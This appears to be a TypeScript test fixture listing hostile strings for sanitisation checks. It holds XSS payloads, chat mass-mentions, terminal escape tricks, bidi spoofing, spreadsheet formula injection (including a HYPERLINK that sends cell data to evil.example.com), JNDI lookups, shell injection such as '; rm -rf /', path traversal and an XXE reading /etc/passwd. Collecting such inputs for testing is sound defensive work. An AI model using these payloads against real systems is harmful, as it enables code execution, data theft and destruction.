/** What others write into lines, names and labels so that whoever shows them does more than to show them. */
const SCRIPTS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"><svg/onload=alert(1)>',
  "'><iframe src=javascript:alert(1)>",
  '<a href="javascript:alert(1)">x</a>',
  '<body onload=alert(1)>',
  '<math><mtext></table><img src onerror=alert(1)>',
  '</title><script>alert(1)</script>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<style>@import "http://evil.example.com/x.css"</style>',
  '<link rel=stylesheet href=//evil.example.com>',
  '<meta http-equiv=refresh content="0;url=//evil.example.com">',
  '<object data="data:text/html,<script>alert(1)</script>">',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  'javascript:alert(1)',
  'jAvAsCrIpT\u0001:alert(1)',
  'data:text/html;base64,PHNjcmlwdD4=',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
];

const MENTIONS = [
  '<!channel>',
  '<!here|here>',
  '<!everyone>',
  '<@U0123ABCD>',
  '<#C0123ABCD|general>',
  '<!subteam^S0123>',
  '<at user_id="all">all</at>',
  '<at id=all></at>',
  '<at email=boss@example.com></at>',
  '@all',
  '@here',
  '@everyone',
  '@channel',
  '@所有人',
  '＠all',
  '<@all>',
  '<@everyone>',
  '<@&123456>',
  '<@!123456>',
  'tg://user?id=1',
  '[x](tg://user?id=1)',
  '@13800138000',
];

const MARKUP = [
  '[click](javascript:alert(1))',
  '[click](http://evil.example.com)',
  '![x](http://evil.example.com/pixel.png)',
  '<http://evil.example.com|bank.example.com>',
  '**bold** _it_ ~~gone~~ `code` ||spoiler||',
  '# heading\n## heading',
  '> quote\n>>> quotes',
  '```\nfence\n```',
  '- [ ] task\n1. one',
  '| a | b |\n|---|---|',
  '<font color="red">red</font>',
  '<b>&amp;</b>',
  'http://evil.example.com/%E2%80%AE',
  '[]()![]()[[x]]',
];

const TERMINALS = [
  '\u001B[31mred\u001B[0m',
  '\u001B[2J\u001B[H',
  '\u001B]0;title\u0007',
  '\u001B]8;;http://evil.example.com\u0007link\u001B]8;;\u0007',
  '\u001B]52;c;ZXZpbA==\u0007',
  '\u001BP+q544e\u001B\\',
  '\u009B31mred',
  '\u0008\u0008\u0008gone',
  '\rover it',
  `${'\u001B[1m'.repeat(500)}x`,
  'one\r\nBcc: victim@example.com\r\n\r\nbody',
  'one\n2026-01-01T00:00:00Z INFO root logged in',
  '\u0000\u0000nul',
  '\uD800 half a pair \uDC00',
];

const TURNED = [
  '\u202Egnp.exe',
  '\u202Dabc\u202C',
  '\u2066left\u2069\u2067right\u2069',
  'pass\u200Bword',
  'ad\u200Dmin',
  '\uFEFFbom\uFEFF',
  '\u200F\u061Cmark',
  '\u{E0041}\u{E0042}tags',
  '\u2028line\u2029paragraph',
  `z${'\u0301'.repeat(300)}algo`,
];

const FORMULAS = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example.com?x="&A1,"ok")',
  '=IMPORTXML("http://evil.example.com","//a")',
  '+1+1',
  '-2+3+cmd|x',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '＝1+1',
  '";=1+1;"',
  '",=1+1',
];

const FORMATS = [
  '%s%s%s%n',
  '${jndi:ldap://evil.example.com/a}',
  '{{ title }}',
  '<%= 1 %>',
  '#{7*7}',
  '$(id)',
  '`id`',
  '| id',
  '; rm -rf /',
  '../../../../etc/passwd',
  '{"errcode":0,"ok":true}',
  '"}],"x":[{"',
  '\\"',
  '__proto__',
  '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>',
];

/** Somewhere else a text may mean something else. */
const WRAPPED: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => `ERROR ${text} in checkout`,
  (text) => `${text}${text}`,
];

/** Three hundred and more, each of which has done harm somewhere. */
export const HOSTILE_TEXTS: readonly string[] = WRAPPED.flatMap((wrap) =>
  [SCRIPTS, MENTIONS, MARKUP, TERMINALS, TURNED, FORMULAS, FORMATS].flat().map(wrap),
);
